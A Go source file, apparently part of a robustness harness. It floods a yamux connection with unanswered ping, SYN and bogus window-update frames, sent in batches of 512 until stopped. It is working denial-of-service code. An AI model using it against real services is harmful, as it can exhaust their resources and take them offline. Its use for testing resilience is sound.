package hostile

import (
	"encoding/binary"
	"io"
)

// yamux's frames (hashicorp/yamux, spec.md): version, type, flags, stream, length.
const (
	muxHeaderBytes = 12
	muxWindow      = 1
	muxPing        = 2
	muxSYN         = 1
	burst          = 512 // frames that go out in one write
)

// flood writes frames without end. Nothing is waited for that a host may answer.
func (g *Guest) flood(conn io.Writer, mode Mode, until <-chan struct{}) {
	for id := uint32(2); ; {
		select {
		case <-until:
			return
		default:
		}
		b := make([]byte, 0, burst*muxHeaderBytes)
		for range burst {
			b = append(b, frame(mode, id)...)
			id += 2 // a server's streams have even numbers
		}
		if _, err := conn.Write(b); err != nil {
			return
		}
		g.did.Add(burst)
	}
}

func frame(mode Mode, id uint32) []byte {
	b := make([]byte, muxHeaderBytes)
	switch mode {
	case Pings:
		b[1] = muxPing
		binary.BigEndian.PutUint16(b[2:], muxSYN)
		binary.BigEndian.PutUint32(b[8:], id)
	case Streams:
		b[1] = muxWindow
		binary.BigEndian.PutUint16(b[2:], muxSYN)
		binary.BigEndian.PutUint32(b[4:], id)
	default: // for a stream that is not open
		b[1] = muxWindow
		binary.BigEndian.PutUint32(b[4:], id)
		binary.BigEndian.PutUint32(b[8:], 1<<31)
	}
	return b
}
